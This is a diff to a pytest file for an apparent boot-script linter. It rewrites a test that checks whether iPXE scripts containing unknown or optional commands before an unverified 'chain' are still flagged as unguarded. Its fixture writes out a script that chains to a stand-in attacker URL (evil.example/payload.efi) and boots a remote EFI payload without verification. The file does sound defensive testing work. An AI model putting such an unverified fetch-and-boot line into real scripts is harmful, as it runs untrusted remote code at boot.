@@ -600,11 +600,12 @@ def test_an_imgverify_that_does_not_guard_the_boot_is_no_verification(name: str)
 
 @pytest.mark.parametrize("first", ["pciscan dev", "usbscan dev", "console", "colour 7",
                                    "cpair 0", "fcstat", "iwstat", "ibstat", "nosuchcmd"])
-def test_a_command_the_model_does_not_know_does_not_end_the_path(first: str) -> None:
-    """iPXE builds carry commands the lint's model lacks (pciscan, console on UEFI ...):
-    one of them before an unverified chain succeeds on such a build and the chain runs
-    (a review booted it under OVMF). Taking it as 'command not found', which ends the
-    path, called that script guarded; a served script may go on past it."""
+def test_a_command_that_may_fail_or_not_does_not_end_the_path(first: str) -> None:
+    """Commands a build may lack or may run (pciscan, console on UEFI ...; the model once
+    lacked them, and a command it does not know, nosuchcmd, is the same): one of them
+    before an unverified chain succeeds on such a build and the chain runs (a review
+    booted it under OVMF). Taking it as 'command not found', which ends the path, called
+    that script guarded; a served script may go on past it."""
     script = f"#!ipxe\n{first}\nchain https://evil.example/payload.efi\n".encode()
     info = loaders.identify(script)
     assert info.kind == "ipxe-script" and info.imgverify is False, info
